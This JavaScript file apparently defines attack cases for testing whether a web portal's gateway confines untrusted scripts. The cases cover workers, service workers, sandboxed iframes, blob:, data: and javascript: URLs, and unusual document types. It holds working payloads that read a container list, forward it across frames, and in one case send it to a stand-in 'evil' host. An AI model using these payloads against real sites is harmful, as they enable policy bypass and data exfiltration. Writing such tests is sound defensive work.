// Attacks that run a script elsewhere: in workers, in service workers, and in documents that come without an answer of
// the gateway or in an unusual form.

const LIST = '/api/container/list';
const answer =
  (type) =>
  (body, ...headers) => ({ status: 200, headers: [['Content-Type', type], ...headers], body });
const js = answer('text/javascript');
const html = answer('text/html');
/** A script that asks for the list of desktops and passes on what it got. */
const asks = (origin, reply) => `fetch('${origin}${LIST}').then((got) => got.text(), String).then((text) => ${reply});`;
const TO_PARENT = 'parent.postMessage(text, "*")';

export const workers = [
  {
    name: 'worker of its own script',
    answers: ({ own, origin }) => ({ [`${own}w.js`]: js(asks(origin, 'postMessage(text)')) }),
    attack: ({ own }) => message(new Worker(`${own}w.js`)),
  },
  {
    name: 'worker that brings a policy of its own',
    answers: ({ own, origin }) => ({
      [`${own}w.js`]: js(asks(origin, 'postMessage(text)'), ['Content-Security-Policy', 'connect-src *']),
    }),
    attack: ({ own }) => message(new Worker(`${own}w.js`)),
  },
  {
    name: 'module worker that imports the portal’s script',
    answers: ({ own }) => ({
      [`${own}w.js`]: js(
        `import('/assets/home.js').then(() => postMessage('imported'), (e) => postMessage(String(e)))`,
      ),
    }),
    attack: ({ own }) => message(new Worker(`${own}w.js`, { type: 'module' })),
  },
  {
    name: 'worker with importScripts of portal and foreign server',
    answers: ({ own, evil }) => ({
      [`${own}w.js`]: js(`for (const url of ['/assets/home.js', '${evil}/x.js']) {
        try { importScripts(url) } catch (e) { postMessage(String(e)) }
      }`),
    }),
    attack: ({ own }) => message(new Worker(`${own}w.js`)),
  },
  {
    name: 'worker from blob:',
    attack: ({ origin }) => message(new Worker(blob(asking(origin, 'postMessage(text)'), 'text/javascript'))),
  },
  {
    name: 'worker from data:',
    attack: ({ evil }) => message(new Worker(`data:text/javascript,${asking(evil, 'postMessage(text)')}`)),
  },
  {
    name: 'worker in a worker from blob:',
    attack: ({ origin }) => {
      const inner = asking(origin, 'postMessage(text)');
      const outer = `const inner = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])));
        inner.onmessage = ({ data }) => postMessage(data); inner.onerror = () => postMessage('error');`;
      return message(new Worker(blob(outer, 'text/javascript')));
    },
  },
  { name: 'worker of the portal’s script', attack: () => message(new Worker('/assets/home.js')) },
  {
    name: 'shared worker of its own script',
    answers: ({ own, origin }) => ({
      [`${own}s.js`]: js(`onconnect = ({ ports: [port] }) => { ${asks(origin, 'port.postMessage(text)')} }`, [
        'Content-Security-Policy',
        'connect-src *',
      ]),
    }),
    attack: ({ own }) => {
      const { port } = new SharedWorker(`${own}s.js`);
      port.start();
      return message(port);
    },
  },
  {
    name: 'shared worker from blob:',
    attack: ({ origin }) => {
      const script = `onconnect = ({ ports: [port] }) => { ${asking(origin, 'port.postMessage(text)')} }`;
      const { port } = new SharedWorker(blob(script, 'text/javascript'));
      port.start();
      return message(port);
    },
  },
  {
    name: 'worklet of the portal’s script',
    attack: async () => {
      const added = [new AudioContext().audioWorklet, window.CSS?.paintWorklet].map((one) =>
        one?.addModule('/assets/home.js'),
      );
      return (await Promise.all(added.map((one) => soon(one)))).join('; ');
    },
  },
  {
    name: 'shared storage worklet of a foreign server',
    attack: ({ evil }) => window.sharedStorage.worklet.addModule(`${evil}/x.js`),
    // Not every browser has it.
    unconfined: 'varies',
  },
];

const WIDE = ['Service-Worker-Allowed', '/'];
const CACHED = ['Cache-Control', 'public, max-age=31536000, immutable'];
const AT_ONCE = 'oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim());';
// An answer of a service worker has no policy: such a page would be free.
const FREES = `${AT_ONCE} onfetch = (event) => event.request.mode === 'navigate' && event.respondWith(
  new Response(${JSON.stringify(`<script>${asks('', 'document.title = text')}</script>`)},
    { headers: { 'Content-Type': 'text/html' } }));`;
// One for the whole origin sees the start page itself, as a visit gets it.
const LISTENS = `${AT_ONCE} onfetch = (event) => event.request.mode === 'navigate' && event.respondWith(
  fetch(event.request).then(async (got) => {
    const text = await got.clone().text();
    for (const client of await clients.matchAll({ includeUncontrolled: true })) client.postMessage(text);
    return got;
  }));`;

const registers = (what, attack, script, headers = [], more = {}) => ({
  name: `service worker: ${what}`,
  answers: ({ own }) => (script ? { [`${own}sw.js`]: js(script, ...headers) } : {}),
  attack,
  settle: 500,
  async look({ page: tab }) {
    const scopes = await tab
      .evaluate(async () =>
        (await navigator.serviceWorker.getRegistrations()).map(({ scope }) => new URL(scope).pathname),
      )
      .catch(() => []);
    return scopes.map((scope) => `a service worker is registered for ${scope.replace(/[0-9a-f-]{36}/, 'OWN')}`);
  },
  ...more,
});

export const serviceWorkers = [
  registers(
    'for its own path',
    ({ own }) => navigator.serviceWorker.register(`${own}sw.js`).then(({ scope }) => scope),
    FREES,
  ),
  registers(
    'for the whole origin',
    ({ own }) => navigator.serviceWorker.register(`${own}sw.js`, { scope: '/' }).then(({ scope }) => scope),
    FREES,
    [WIDE],
  ),
  registers(
    'for the whole origin, listening to the start page',
    async ({ own }) => {
      navigator.serviceWorker.onmessage = ({ data }) => (window.got = data);
      await navigator.serviceWorker.register(`${own}sw.js`, { scope: '/' });
      while (!window.got) await late(50);
      return window.got;
    },
    LISTENS,
    [WIDE],
    {
      portal: true,
      act: async ({ page: tab, portal }) => {
        const active = async () => (await navigator.serviceWorker.getRegistration('/'))?.active;
        await tab.waitForFunction(active, undefined, { timeout: 1500 }).catch(() => {});
        await portal.reload();
      },
    },
  ),
  registers(
    'a module',
    ({ own }) => navigator.serviceWorker.register(`${own}sw.js`, { type: 'module' }).then(({ scope }) => scope),
    FREES,
    [WIDE],
  ),
  registers(
    'a script that the browser’s cache holds already',
    async ({ own }) => {
      // Fetched as an ordinary script, it is cached; a registration that may use the cache need not ask again.
      await fetch(`${own}sw.js`, { cache: 'reload' });
      await element('script', { src: `${own}sw.js` });
      return (await navigator.serviceWorker.register(`${own}sw.js`, { updateViaCache: 'all' })).scope;
    },
    `if (self.registration) { ${FREES} }`,
    [WIDE, CACHED],
  ),
  registers(
    'from blob: and data:',
    () => {
      const tried = [blob('onfetch = null', 'text/javascript'), 'data:text/javascript,0'];
      return Promise.all(tried.map((url) => soon(navigator.serviceWorker.register(url))));
    },
    undefined,
    [],
    { unconfined: 'fails' },
  ),
  registers('the portal’s script', () => navigator.serviceWorker.register('/assets/home.js', { scope: '/assets/' })),
  registers(
    'from inside a worker',
    () => message(new Worker(blob('postMessage(String(navigator.serviceWorker?.register))', 'text/javascript'))),
    undefined,
    [],
    { unconfined: 'fails' },
  ),
];

/** A frame of the desktop's own, with what the desktop says it is. */
const framed = (what, laidDown, more = {}) => ({
  name: `document: ${what}`,
  answers: ({ own }) => ({ [`${own}f`]: laidDown }),
  attack: ({ own }) => {
    element('iframe', { src: `${own}f` });
    return message(window);
  },
  ...more,
});

const SCRIPT = `<script>${asks('', TO_PARENT)}</script>`;
// What browsers do with these is their choice; none shows them as a page that runs scripts.
const UNUSUAL = { unconfined: 'varies' };

export const documents = [
  {
    name: 'document: srcdoc frame',
    attack: () => {
      element('iframe', { srcdoc: `<script>${asking('', 'parent.postMessage(text, "*")')}</script>` });
      return message(window);
    },
  },
  {
    name: 'document: empty frame, whose fetch is used',
    attack: () => {
      const made = document.body.appendChild(document.createElement('iframe'));
      return made.contentWindow.fetch('/api/container/list').then((got) => got.text());
    },
  },
  {
    name: 'document: empty frame, written to',
    attack: () => {
      const made = document.body.appendChild(document.createElement('iframe'));
      made.contentDocument.write(`<script>${asking('', 'parent.postMessage(text, "*")')}</script>`);
      return message(window);
    },
  },
  {
    name: 'document: frame from javascript:',
    attack: () => {
      element('iframe', { src: `javascript:${asking('', 'parent.postMessage(text, "*")')}` });
      return message(window);
    },
  },
  {
    name: 'document: frame from blob:',
    attack: ({ origin }) => {
      const script = `<script>${asking(origin, 'parent.postMessage(text, "*")')}</script>`;
      element('iframe', { src: blob(script, 'text/html') });
      return message(window);
    },
  },
  {
    name: 'document: frame from data:',
    attack: ({ evil }) => {
      element('iframe', { src: `data:text/html,<script>${asking(evil, 'parent.postMessage(text, "*")')}</script>` });
      return message(window);
    },
  },
  {
    name: 'document: this tab from blob:',
    stays: true,
    settle: 700,
    attack: ({ origin, evil }) => {
      location = blob(`<script>${asking(origin, `fetch('${evil}/' + btoa(text))`)}</script>`, 'text/html');
      return late(300);
    },
  },
  {
    name: 'document: this tab from data:',
    settle: 700,
    attack: ({ evil }) => {
      location = `data:text/html,<script>${asking(evil, '0')}</script>`;
      return late(300);
    },
    unconfined: 'fails',
  },
  {
    name: 'document: this tab from javascript:',
    attack: () => {
      location = `javascript:${asking('', '(window.got = text)')}undefined`;
      return late(500).then(() => window.got);
    },
  },
  framed(
    'a frame of its own with a weaker policy',
    html(
      SCRIPT,
      ['Content-Security-Policy', "default-src * 'unsafe-inline'"],
      ['Cross-Origin-Opener-Policy', 'unsafe-none'],
      ['Cross-Origin-Embedder-Policy', 'unsafe-none'],
      ['X-Frame-Options', 'ALLOWALL'],
    ),
  ),
  framed('a frame with a sandbox of its own choice', html('<script>top.location = "/"; open("/")</script>'), {
    attack: ({ own }) => {
      const rights = ['scripts', 'same-origin', 'top-navigation', 'popups', 'popups-to-escape-sandbox'];
      return frame({ src: `${own}f`, sandbox: rights.map((right) => `allow-${right}`).join(' ') });
    },
  }),
  framed(
    'SVG',
    answer('image/svg+xml')(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT.replaceAll('=>', '=&gt;')}</svg>`),
  ),
  framed(
    'XHTML',
    answer('application/xhtml+xml')(
      `<html xmlns="http://www.w3.org/1999/xhtml"><body>${SCRIPT.replaceAll('=>', '=&gt;')}</body></html>`,
    ),
  ),
  framed(
    'XML with a style sheet of the portal',
    answer('text/xml')(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${LIST}"?><a/>`),
  ),
  framed(
    'a page in parts',
    answer('multipart/x-mixed-replace; boundary=b')(`--b\r\nContent-Type: text/html\r\n\r\n${SCRIPT}\r\n--b--\r\n`),
    UNUSUAL,
  ),
  framed(
    'MHTML',
    answer('multipart/related; boundary=b')(
      `MIME-Version: 1.0\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: /\r\n\r\n${SCRIPT}\r\n--b--\r\n`,
    ),
    UNUSUAL,
  ),
  framed(
    'PDF',
    answer('application/pdf')(
      `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${LIST})>>>>endobj\ntrailer<</Root 1 0 R>>`,
    ),
    UNUSUAL,
  ),
  framed('signed exchange', answer('application/signed-exchange;v=b3')('sxg1-b3\0'), UNUSUAL),
  framed('web bundle', answer('application/webbundle')('\u{1f310}\u{1f4e6}'), UNUSUAL),
];
